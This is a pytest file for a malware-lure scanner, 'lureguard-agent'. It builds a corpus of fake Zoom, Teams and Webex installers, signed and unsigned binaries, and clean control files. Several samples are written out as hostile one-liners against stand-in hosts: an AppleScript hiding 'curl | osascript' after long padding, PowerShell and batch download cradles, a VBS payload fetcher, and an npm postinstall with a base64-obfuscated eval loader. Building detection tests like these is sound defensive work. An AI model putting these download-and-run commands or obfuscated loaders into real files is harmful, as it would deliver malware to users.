"""The scanner end to end: `lureguard-agent scan --json` on a corpus built from real tools.

Every shape in THREATS.md's table must be flagged; genuine vendor-signed files and ordinary downloads must
stay clean. Each case says why it exists. The corpus is built once per session (tests/.cache holds the
slow parts: the test PKI, mingw-built PEs, the msvc-runtime wheel).
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.serialization import Encoding

from agent.demo.pe_writer import build_pe as py_pe
from tests.corpus import lnk_build, macho_build, zip_build
from tests.corpus.msi_build import build_msi
from tests.corpus.msvc import msvc_dlls
from tests.corpus.pe_build import build_pe
from tests.corpus.pki import Pki, make_pki
from tests.corpus.sign import sign

CACHE = Path(__file__).resolve().parent / ".cache"
ZOOM_ORG = "Zoom Video Communications, Inc."
ZOOM_VI = {"CompanyName": ZOOM_ORG, "ProductName": "Zoom Workplace", "FileDescription": "Zoom Installer",
           "OriginalFilename": "ZoomInstaller.exe"}
TEAMS_VI = {"CompanyName": "Microsoft Corporation", "ProductName": "Microsoft Teams",
            "FileDescription": "Microsoft Teams Setup", "OriginalFilename": "MSTeamsSetup.exe"}
PAD = "\n" * 12_000


@dataclass(frozen=True)
class Case:
    path: str  # relative to the run's folder
    verdict: str  # expected verdict; "flagged" = suspicious or malicious
    code: str | None  # a reason code that must be present
    why: str


def _compiled_applescript(strings: list[str]) -> bytes:
    # The shape of a compiled .scpt: the FasdUAS header, binary structure, then the literal strings.
    body = b"".join(b"\x00\x00\x0c\x00" + s.encode("utf-8") + b"\x00" for s in strings)
    return b"FasdUAS 1.101.10\x0e\x00\x00\x00\x04\x0f\xff\xff" + body + b"sysoexec" + b"\x00" * 64


def _npm_coding_test() -> bytes:
    pkg = {"name": "interview-task", "version": "1.0.0",
           "scripts": {"postinstall": "node scripts/setup.js", "test": "jest"}}
    loader = (
        "const _0x3f=['Y2hpbGRfcHJvY2Vzcw==','aHR0cHM6Ly9hcGkuZXhhbXBsZS5pbnZhbGlkL3Y='];\n"
        "const cp=require(Buffer.from(_0x3f[0],'base64').toString());\n"
        "eval(Buffer.from('" + "Y29uc3QgaD1yZXF1aXJlKCJodHRwcyIpO2guZ2V0KCJodHRwczovL2FwaS5leGFtcGxlLmludmFsaWQv"
        "IixyPT57bGV0IGQ9IiI7ci5vbignZGF0YScsYz0+ZCs9Yyk7ci5vbignZW5kJywoKT0+ZXZhbChkKSl9KQ==" + "','base64')"
        ".toString());\ncp.exec('curl -s https://api.example.invalid/p | sh');\n"
    )
    return zip_build.make({"interview-task/package.json": json.dumps(pkg).encode(),
                           "interview-task/scripts/setup.js": loader.encode(),
                           "interview-task/src/index.js": b"module.exports = (a, b) => a + b;\n"})


def _benign_npm() -> bytes:
    pkg = {"name": "todo-app", "version": "0.3.0", "scripts": {"postinstall": "node-gyp rebuild", "test": "jest"}}
    return zip_build.make({"todo-app/package.json": json.dumps(pkg).encode(),
                           "todo-app/index.js": b"const express = require('express');\nmodule.exports = {};\n"})


def _write(root: Path, rel: str, data: bytes | Path) -> None:
    dst = root / rel
    dst.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, Path):
        shutil.copyfile(data, dst)
    else:
        dst.write_bytes(data)


@dataclass
class Corpus:
    default: Path  # scanned with the default trust (Microsoft's program, Apple's root)
    trusted: Path  # scanned with the test roots passed by --trust-root
    roots: list[Path]
    cases: dict[str, list[Case]]


@pytest.fixture(scope="session")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    pki: Pki = make_pki(CACHE / "pki")
    work = tmp_path_factory.mktemp("corpus-work")
    d, t = tmp_path_factory.mktemp("default"), tmp_path_factory.mktemp("trusted")
    dcases: list[Case] = []
    tcases: list[Case] = []

    def add(root: Path, cases: list[Case], rel: str, data: bytes | Path, verdict: str, code: str | None,
            why: str) -> None:
        _write(root, rel, data)
        cases.append(Case(rel, verdict, code, why))

    dflt: Callable[..., None] = lambda *a: add(d, dcases, *a)  # noqa: E731
    trst: Callable[..., None] = lambda *a: add(t, tcases, *a)  # noqa: E731

    zoom_exe = build_pe(CACHE, ZOOM_VI)
    teams_exe = build_pe(CACHE, TEAMS_VI)
    plain_exe = build_pe(CACHE, {"CompanyName": "Example Tools", "ProductName": "CSV Tool"})
    zoom_signed_fake = sign(zoom_exe, work / "zoom_fake_signed.exe", pki.zoom_fake)
    teams_signed_unrelated = sign(teams_exe, work / "teams_unrelated.exe", pki.unrelated)
    ms = msvc_dlls(CACHE)
    ps1 = work / "Zoom_Update.ps1"
    ps1.write_text("# Zoom update helper\r\nWrite-Host 'Zoom is up to date'\r\n")
    ps1_signed = sign(ps1, work / "Zoom_Update_signed.ps1", pki.zoom_fake)

    # --- THREATS.md shapes, default trust ---------------------------------------------------------
    dflt("ZoomInstaller.exe", zoom_exe, "malicious", "BRAND_UNSIGNED", "PE with Zoom's VERSIONINFO, unsigned")
    dflt("ZoomInstallerFull.exe", py_pe(ZOOM_VI), "malicious", "BRAND_UNSIGNED", "the real installer's name")
    dflt("MSTeamsSetup.exe", teams_exe, "malicious", "BRAND_UNSIGNED", "Teams web-installer name, unsigned")
    dflt("Z00mlnstaller.exe", plain_exe, "malicious", "BRAND_UNSIGNED", "leet name is still a Zoom claim")
    dflt("FCCCall.msi", build_msi(CACHE, manufacturer="FreeConferenceCall", name="FCC Call"), "malicious",
         "BRAND_UNPROVABLE", "clone-brand MSI from THREATS.md")
    dflt("MiroTalk.msi", build_msi(CACHE, manufacturer="MiroTalk", name="MiroTalk"), "malicious",
         "BRAND_NO_DESKTOP_APP", "MiroTalk clone MSI: the service has no official desktop installer")
    dflt("Zoom.msi", build_msi(CACHE, manufacturer=ZOOM_ORG, name="Zoom Workplace"), "malicious",
         "BRAND_UNSIGNED", "MSI whose Manufacturer copies Zoom's")
    dflt("Zoom_Update.exe", zoom_signed_fake, "malicious", "BRAND_UNTRUSTED_SIGNER",
         "self-made root whose subject says Zoom (YARA would call it verified)")
    dflt("zoom.us", macho_build.build_macho(sign=macho_build.SignSpec(identifier="us.zoom.xos", team_id="BJ4HAAB9B3")),
         "malicious", "BRAND_ADHOC_SIGNED", "ad-hoc Mach-O with Zoom's Team ID self-asserted")
    dflt("Microsoft Teams", macho_build.build_macho(), "malicious", "BRAND_UNSIGNED", "unsigned Mach-O named Teams")
    for rel, data in macho_build.app_tree(
            macho_build.info_plist("us.zoom.xos", "zoom.us", "zoom.us"), "zoom.us",
            macho_build.build_macho(sign=macho_build.SignSpec(identifier="us.zoom.xos"))).items():
        _write(d, f"zoom.us.app/{rel}", data)
    dcases.append(Case("zoom.us.app", "malicious", "BRAND_ADHOC_SIGNED", ".app bundle, ad-hoc signed"))
    dflt("zoom_sdk_support.scpt", (
        'open location "https://developers.zoom.us/docs/sdk/"\n' + PAD
        + 'do shell script "curl -fsSL https://us05web-zoom.invalid/sdk | osascript"\n').encode(),
         "malicious", "BRAND_SCRIPT_DROPPER", "GhostCall AppleScript: decoy, padding, curl | osascript")
    dflt("Zoom SDK Update.scpt", _compiled_applescript(
        ["Zoom SDK Update", "curl -s https://support-zoom.invalid/u | sh", "do shell script"]),
         "malicious", None, "compiled AppleScript (FasdUAS) with a download")
    dflt("Webex_Audio_Fix.command", b"#!/bin/zsh\n# Webex audio fix\ncurl -fsSL https://webex-fix.invalid/a "
         b"-o /tmp/.wbx && chmod +x /tmp/.wbx && /tmp/.wbx\n", "malicious", "BRAND_SCRIPT_DROPPER",
         "shell 'fix': download, chmod +x hidden file, run")
    dflt("Teams_Camera_Update.ps1", b"# Microsoft Teams camera update\nIEX (New-Object Net.WebClient)"
         b".DownloadString('https://teams-install.invalid/fix.ps1')\n", "malicious", "BRAND_SCRIPT_DROPPER",
         "PowerShell download cradle")
    dflt("Zoom_Update.vbs", b'\' Zoom update\nSet sh = CreateObject("WScript.Shell")\n'
         b'sh.Run "cmd /c curl -s https://zoom-update.invalid/x.js -o %TEMP%\\x.js && node %TEMP%\\x.js", 0\n',
         "malicious", "BRAND_SCRIPT_DROPPER", "VBS that fetches and runs a node payload")
    dflt("Zoom_Fix.bat", b"@echo off\nREM Zoom audio driver fix\npowershell -w hidden -c \"iwr "
         b"https://us05web-zoom.invalid/f.ps1 | iex\"\n", "malicious", "BRAND_SCRIPT_DROPPER", "batch 'fix'")
    dflt("Zoom.lnk", lnk_build.zoom_lure(), "malicious", "BRAND_SCRIPT_DROPPER",
         "shortcut: hidden PowerShell cradle with Zoom's icon")
    dflt("Interview_Task.zip", zip_build.make({"task/ZoomInstaller.exe": zoom_exe.read_bytes(),
                                                "task/README.txt": b"Install the update first.\n"}),
         "malicious", "MEMBER_FLAGGED", "archive holding a fake installer")
    dcases.append(Case("Interview_Task.zip!task/ZoomInstaller.exe", "malicious", "BRAND_UNSIGNED",
                       "archive members appear as their own objects"))
    dflt("zoom-for-mac.zip", zip_build.make({f"zoom.us.app/{k}": v for k, v in macho_build.app_tree(
        macho_build.info_plist("us.zoom.xos", "zoom.us", "zoom.us"), "zoom.us", macho_build.build_macho()).items()}),
         "malicious", "MEMBER_FLAGGED", "zipped fake .app")
    dflt("interview-task.zip", _npm_coding_test(), "flagged", "MEMBER_FLAGGED",
         "coding test: postinstall runs an obfuscated downloader")
    dflt("Zoom_Update.ps1", ps1_signed, "flagged", "BRAND_SCRIPT",
         "PowerShell named as a Zoom update whose signature chains to an untrusted root proves nothing")
    dflt("invoice.pdf", plain_exe, "flagged", "EXTENSION_MISMATCH", "a program named like a PDF")

    # Unbranded installer one-liners are common in developers' scripts: worth a look, not an alarm.
    dflt("dev/bootstrap.sh", b"#!/bin/sh\ncurl -fsSL https://sh.rustup.example | sh -s -- -y\n", "suspicious",
         "SCRIPT_DOWNLOAD_EXEC", "curl | sh without a brand or look-alike host stays suspicious")
    dflt("dev/setup-dev.ps1", b"irm https://get.scoop.example | iex\nscoop install git\n", "suspicious", None,
         "scoop-style irm | iex without a brand stays suspicious")

    # --- genuine and ordinary: must stay clean ---------------------------------------------------
    dflt("vcruntime140.dll", ms["vcruntime140.dll"], "clean", None, "genuine Microsoft-signed DLL")
    dflt("MSTeamsSetup_real.exe", ms["msvcp140.dll"], "clean", None,
         "genuine Microsoft file renamed to claim Teams: Microsoft proves Teams")
    dflt("ordinary/report.pdf", b"%PDF-1.4\n1 0 obj <</Type/Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n",
         "clean", None, "document")
    dflt("ordinary/photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "clean", None, "image")
    dflt("ordinary/csv_tool.exe", plain_exe, "clean", None, "unbranded unsigned tool: unsigned is no reason")
    dflt("ordinary/ls", Path(shutil.which("ls") or "/bin/ls"), "clean", None, "a real ELF")
    dflt("ordinary/install.sh", b"#!/bin/sh\nset -e\nmkdir -p \"$HOME/.local/bin\"\ncp tool \"$HOME/.local/bin/\"\n",
         "clean", None, "benign install script")
    dflt("ordinary/get_report.ps1", b"$r = Invoke-WebRequest -Uri 'https://reports.example/q3.csv' "
         b"-OutFile q3.csv\nImport-Csv q3.csv | Measure-Object\n", "clean", None, "PowerShell that saves a CSV")
    dflt("ordinary/meeting_notes.txt", b"Zoom update: the weekly sync moved; install the new Zoom client from "
         b"zoom.us when IT asks.\n", "clean", None, "text that talks about Zoom updates")
    dflt("ordinary/docs.zip", zip_build.make({"docs/a.txt": b"hello\n", "docs/b.pdf": b"%PDF-1.4\n%%EOF\n"}),
         "clean", None, "archive of documents")
    dflt("ordinary/todo-app.zip", _benign_npm(), "clean", None, "dev project with a normal postinstall")
    dflt("ordinary/Zoom Backgrounds.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "clean", None,
         "a brand in the name of an image is no claim to run")

    # --- test roots passed with --trust-root -----------------------------------------------------
    trst("Zoom_signed.exe", zoom_signed_fake, "clean", None, "'signed by Zoom' through a root passed by --trust-root")
    tampered = bytearray(zoom_signed_fake.read_bytes())
    tampered[0x400 + 3] ^= 0x01  # one byte of code, covered by the digest
    trst("Zoom_signed_tampered.exe", bytes(tampered), "malicious", "BRAND_TAMPERED", "same file, one byte changed")
    trst("MSTeamsSetup.exe", teams_signed_unrelated, "malicious", "BRAND_SIGNER_MISMATCH",
         "Oyster: a valid, trusted signature of an unrelated company on a Teams claim")
    trst("Zoom_Update.ps1", ps1_signed, "clean", None, "a PowerShell signature block counts like Authenticode")
    apple_root = macho_build.make_root()
    dev = macho_build.make_developer(apple_root, "BJ4HAAB9B3", org=ZOOM_ORG)
    trst("zoom.us", macho_build.build_macho(sign=macho_build.SignSpec(
        identifier="us.zoom.xos", team_id="BJ4HAAB9B3", flags=0, signer=dev)), "clean", None,
         "Mach-O with a CMS-verified Zoom Team ID")
    other = macho_build.make_developer(apple_root, "ZZZZZZZZZZ", org="Example Corp")
    trst("zoom_other_team.us", macho_build.build_macho(sign=macho_build.SignSpec(
        identifier="us.zoom.xos", team_id="ZZZZZZZZZZ", flags=0, signer=other)), "malicious",
         "BRAND_SIGNER_MISMATCH", "verified, but another developer's Team ID")

    apple_pem = work / "apple_like_root.pem"
    apple_pem.write_bytes(apple_root.cert.public_bytes(Encoding.PEM))
    return Corpus(d, t, [pki.root, pki.zoom_root, apple_pem], {"default": dcases, "trusted": tcases})


def _scan(cli: list[str], *args: str) -> tuple[int, list[dict[str, Any]], str]:
    proc = subprocess.run([*cli, "scan", "--json", *args], capture_output=True, text=True, timeout=600)
    return proc.returncode, [json.loads(line) for line in proc.stdout.splitlines()], proc.stderr


def _relative(path: str, root: Path) -> str:
    outer, bang, inner = path.partition("!")  # archive members keep their "!member" suffix
    return str(Path(outer).relative_to(root)) + bang + inner


@pytest.fixture(scope="session")
def scanned(corpus: Corpus, agent_cli: list[str]) -> dict[str, tuple[int, dict[str, dict[str, Any]]]]:
    out = {}
    for run, root, extra in (("default", corpus.default, []), ("trusted", corpus.trusted, corpus.roots)):
        args = [a for r in extra for a in ("--trust-root", str(r))]
        rc, lines, err = _scan(agent_cli, *args, "--jobs", "2", str(root))
        assert rc in (0, 1), err
        out[run] = (rc, {_relative(x["path"], root): x for x in lines})
    return out


@pytest.mark.parametrize("run", ["default", "trusted"])
def test_every_case(corpus: Corpus, scanned: dict[str, tuple[int, dict[str, dict[str, Any]]]], run: str) -> None:
    _, results = scanned[run]
    failures = []
    for case in corpus.cases[run]:
        res = results.get(case.path)
        if res is None:
            failures.append(f"{case.path}: not reported ({case.why})")
            continue
        flagged = res["verdict"] in ("suspicious", "malicious")
        ok = flagged if case.verdict == "flagged" else res["verdict"] == case.verdict
        codes = [r["code"] for r in res["reasons"]]
        if not ok or (case.code and case.code not in codes):
            failures.append(f"{case.path}: expected {case.verdict}/{case.code}, got {res['verdict']} {codes} "
                            f"signature={res['signature'] and res['signature']['status']} ({case.why})")
    assert not failures, "\n".join(failures)


def test_json_contract(scanned: dict[str, tuple[int, dict[str, dict[str, Any]]]]) -> None:
    rc, results = scanned["default"]
    assert rc == 1  # something flagged
    for path, res in results.items():
        assert {"path", "sha256", "size", "type", "verdict", "score", "reasons", "claims", "signature",
                "yara"} <= res.keys(), path
        assert res["verdict"] in ("clean", "suspicious", "malicious")
        assert len(res["sha256"]) == 64 and isinstance(res["size"], int)
        for r in res["reasons"]:
            assert {"code", "message", "attack"} <= r.keys()
    # An archive's verdict is the worst of its members.
    zip_res = results["Interview_Task.zip"]
    members = [r for p, r in results.items() if p.startswith("Interview_Task.zip!")]
    assert len(members) == 2
    assert zip_res["verdict"] == "malicious"
    # Claims and signature facts explain the verdict.
    signed = results["Zoom_Update.exe"]
    assert signed["signature"]["signer_org"] == ZOOM_ORG and signed["signature"]["status"] == "untrusted_root"
    assert {c["brand"] for c in signed["claims"]} == {"zoom"}
    ms = results["vcruntime140.dll"]["signature"]
    assert ms["status"] == "valid" and ms["signer_org"] == "Microsoft Corporation"


def test_exit_codes_and_errors(tmp_path: Path, agent_cli: list[str]) -> None:
    (tmp_path / "a.txt").write_text("hello\n")
    assert _scan(agent_cli, str(tmp_path))[0] == 0  # nothing flagged
    rc, _, err = _scan(agent_cli, str(tmp_path / "missing"))
    assert rc == 2 and "missing" in err
    bad_root = tmp_path / "bad.pem"
    bad_root.write_text("not a certificate")
    rc, lines, err = _scan(agent_cli, "--trust-root", str(bad_root), str(tmp_path))
    assert rc == 2 and "bad.pem" in err and not lines
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "broken.yar").write_text("rule Broken {\n condition: nonsense_identifier\n}\n")
    rc, lines, err = _scan(agent_cli, "--rules", str(rules), str(tmp_path / "a.txt"))
    assert rc == 2 and "broken.yar" in err and not lines


def test_table_output_and_summary(corpus: Corpus, agent_cli: list[str]) -> None:
    proc = subprocess.run([*agent_cli, "scan", str(corpus.default / "Zoom.lnk"), str(corpus.default / "ordinary")],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 1
    assert "malicious" in proc.stdout and "Zoom.lnk" in proc.stdout
    assert "1 malicious" in proc.stdout.splitlines()[-1]


def test_trust_roots_from_config_file(corpus: Corpus, agent_cli: list[str], tmp_path: Path) -> None:
    target = str(corpus.trusted / "Zoom_signed.exe")
    rc, (res,), _ = _scan(agent_cli, target)
    assert rc == 1 and res["verdict"] == "malicious"  # without the roots the Zoom signature proves nothing
    conf = tmp_path / "agent.toml"
    conf.write_text("[trust]\nroots = [" + ", ".join(f'"{r}"' for r in corpus.roots) + "]\n")
    rc, (res,), err = _scan(agent_cli, "--config", str(conf), target)
    assert rc == 0 and res["verdict"] == "clean" and res["signature"]["status"] == "valid", err


@pytest.mark.parametrize(("text", "message"), [
    ("[trust\nroots = 1", "not valid TOML"),
    ("[trust]\nroots = 5\n", "trust.roots must be a list"),
    ("[trust]\nrots = []\n", "unknown key(s) rots"),
    ("[scanner]\n", "unknown section [scanner]"),
    ('[trust]\nroots = ["missing.pem"]\n', "missing.pem"),
])
def test_bad_config_is_a_clear_error(agent_cli: list[str], tmp_path: Path, text: str, message: str) -> None:
    conf = tmp_path / "agent.toml"
    conf.write_text(text)
    (tmp_path / "a.txt").write_text("hello\n")
    rc, lines, err = _scan(agent_cli, "--config", str(conf), str(tmp_path / "a.txt"))
    assert rc == 2 and message in err and not lines
